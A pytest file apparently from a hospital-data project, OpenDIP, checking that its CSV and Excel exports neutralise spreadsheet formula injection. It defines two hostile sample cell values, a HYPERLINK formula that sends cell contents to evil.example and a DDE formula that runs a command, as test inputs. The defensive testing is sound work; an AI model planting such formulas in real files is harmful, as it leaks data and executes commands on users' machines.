"""Issue 20 item 7: no CSV or Excel file OpenDIP writes turns a value into a live formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from opendip.contract.cells import safe_cell, safe_text_array

REGION = Path(__file__).resolve().parents[1] / "web" / "region"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
CMD = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "want"),
    [
        (EVIL, "'" + EVIL),
        ("+SUM(1)", "'+SUM(1)"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),
        ("+86", "+86"),
        ("-12.50", "-12.50"),
        ("内科", "内科"),
        (12, 12),
        (None, None),
    ],
)
def test_safe_cell(value, want) -> None:
    assert safe_cell(value) == want
    if isinstance(value, str):
        assert safe_text_array(pa.array([value])).to_pylist() == [want]


def _sheet_xml(path: Path) -> bytes:
    with zipfile.ZipFile(path) as z:
        return b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_per_case_excel_writes_strings_as_strings(tmp_path: Path) -> None:
    from opendip.settlement.output import write_excel

    table = pa.table({"case_id": ["C1", "C2"], "department": [EVIL, CMD]})
    path = write_excel([("病例", table)], tmp_path / "cases.xlsx", dt.date(2026, 1, 31))
    xml = _sheet_xml(path)
    assert b"<f>" not in xml and b"<f " not in xml
    import openpyxl

    ws = openpyxl.load_workbook(path).active
    assert ws["B2"].value == EVIL and ws["B2"].data_type == "s"


def test_quarantine_and_errors_csv_are_neutralised(tmp_path: Path) -> None:
    from opendip.ingest import read_cases, write_outputs
    from opendip.ingest.export import to_export_table

    t = to_export_table(pq.read_table(REGION / "cases_2026.parquet").slice(0, 2))
    rows = [
        t.column_names,
        *[[("" if v is None else str(v)) for v in r.values()] for r in t.to_pylist()],
    ]
    rows[1][rows[0].index("出院科别")] = CMD
    rows[1][rows[0].index("年龄")] = "=1+1"  # a bad age: the row is quarantined
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    (tmp_path / "in.csv").write_text(out.getvalue(), encoding="utf-8")
    result = read_cases([tmp_path / "in.csv"])
    assert result.quarantine.num_rows == 1
    paths = write_outputs(result, tmp_path / "out")
    quarantine = paths["quarantine"].read_text(encoding="utf-8-sig")
    cells = [c for r in csv.reader(io.StringIO(quarantine)) for c in r]
    assert "'" + CMD in cells and CMD not in cells and "'=1+1" in cells
    errors = [c for r in csv.reader(io.StringIO(paths["errors"].read_text("utf-8-sig"))) for c in r]
    assert "'=1+1" in errors and "=1+1" not in errors


def test_settlement_csv_export_is_neutralised(tmp_path: Path) -> None:
    from opendip.ingest.export import write_settlement_csv

    t = pq.read_table(REGION / "cases_2026.parquet").slice(0, 1)
    t = t.set_column(t.schema.get_field_index("department"), "department", pa.array([CMD]))
    text = write_settlement_csv(t, tmp_path / "x.csv").read_bytes().decode("gb18030")
    cells = [c for r in csv.reader(io.StringIO(text)) for c in r]
    assert "'" + CMD in cells and CMD not in cells
